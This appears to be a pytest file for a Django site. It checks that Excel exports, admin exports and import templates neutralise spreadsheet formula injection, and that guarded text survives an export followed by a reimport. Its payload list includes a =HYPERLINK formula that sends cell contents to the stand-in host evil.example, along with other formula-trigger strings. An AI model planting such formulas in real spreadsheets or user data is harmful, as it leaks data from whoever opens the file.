"""Every workbook the site writes holds user text as text: never a formula a spreadsheet runs.

Each record of the scoped world gets text a spreadsheet would run (``=HYPERLINK(...)``, ``+``,
``-``, ``@``, tab); then every list page's Excel export, every admin changelist's export, the
dashboard's ranking, the bulletin and every import template filled with data are opened.
"""

import datetime
import io

import pytest
from django.apps import apps
from django.contrib.admin.sites import site
from django.db import models
from django.test import Client
from django.urls import NoReverseMatch, reverse
from openpyxl import load_workbook

from core.exports import FORMULA_STARTS, neutralise, unguard
from core.imports.kinds import all_kinds
from core.imports.templates import render_template
from core.models import BoundedTextField
from hengkou.access import PAGES
from hengkou.services.close import close_month
from tests.scoped_world import build_world

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
PAYLOADS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
# Free text that is not a code, a choice or a key checked by a validator.
SKIP = {"credit_code", "code", "chain_role", "kind", "rank", "status", "metric", "stage"}


def _poison() -> int:
    """Put a formula-like text in every free-text field of every row; return how many rows."""
    touched = 0
    for app in ("enterprises", "projects", "hengkou"):
        for model in apps.get_app_config(app).get_models():
            if model.__name__.startswith("Historical"):
                continue
            fields = [
                field
                for field in model._meta.concrete_fields
                if isinstance(field, models.CharField | BoundedTextField)
                and not field.choices
                and field.name not in SKIP
                and not field.primary_key
            ]
            for index, row in enumerate(model.objects.all()):
                values = {}
                for position, field in enumerate(fields):
                    payload = PAYLOADS[(index + position) % len(PAYLOADS)]
                    limit = field.max_length or len(payload)
                    values[field.name] = (payload + f"#{row.pk}")[:limit]
                if values:
                    model.objects.filter(pk=row.pk).update(**values)
                    touched += 1
    return touched


def _formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


@pytest.fixture
def world():
    world = build_world()
    close_month(
        period=datetime.date(2021, 11, 1),
        acting_user=None,
        now=datetime.datetime(2021, 12, 6, 1, 0, tzinfo=datetime.UTC),
    )
    assert _poison() > 20
    return world


def _xlsx(response) -> bool:
    return response.status_code == 200 and response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )


def test_every_export_writes_formula_text_as_text(world):
    client = Client()
    client.force_login(world.users["administrator"])
    exported, bad = [], []

    def check(label, response):
        if _xlsx(response):
            exported.append(label)
            bad.extend(f"{label}: {cell}" for cell in _formula_cells(response.content))

    for name in PAGES:
        try:
            url = reverse(name)
        except NoReverseMatch:
            continue
        check(name, client.get(url, {"format": "xlsx"}))
    for model, _admin in site._registry.items():
        opts = model._meta
        try:
            url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export_xlsx")
        except NoReverseMatch:
            continue
        check(f"admin {opts.label}", client.get(url))
    check("ranking", client.get(reverse("dashboard_xlsx"), {"period": "2021-11"}))
    check("bulletin", client.get(reverse("bulletin:xlsx", args=["2021-11"])))
    for kind in all_kinds():
        rows = [kind.export_row(obj) for obj in kind.model.objects.all()[:5]]
        content = render_template(kind, rows)
        exported.append(f"template {kind.key}")
        bad.extend(f"template {kind.key}: {cell}" for cell in _formula_cells(content))

    assert len(exported) > 30, exported
    assert {"admin enterprises.Enterprise", "bulletin", "ranking"} <= set(exported)
    assert not bad, "\n".join(bad[:20])


@pytest.mark.parametrize("text", [*PAYLOADS, "普通文字", "", "'=already quoted"])
def test_an_export_and_reimport_gives_back_the_same_text(text):
    assert unguard(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_STARTS)


def test_a_guarded_name_survives_an_export_and_reimport_unchanged(db):
    from core.imports.engine import run_import
    from core.imports.kinds import get_kind
    from enterprises.models import Enterprise
    from tests.factories import EnterpriseFactory, UserFactory

    enterprise = EnterpriseFactory(name="=SUM(1,2)有限公司")
    kind = get_kind("enterprises")
    content = render_template(kind, [kind.export_row(enterprise)])
    assert not _formula_cells(content)
    result = run_import(kind=kind, source=io.BytesIO(content), user=UserFactory(is_superuser=True))
    assert result.ok, [error.message for error in result.errors]
    assert (result.created, result.unchanged) == (0, 1)
    assert Enterprise.objects.get().name == "=SUM(1,2)有限公司"
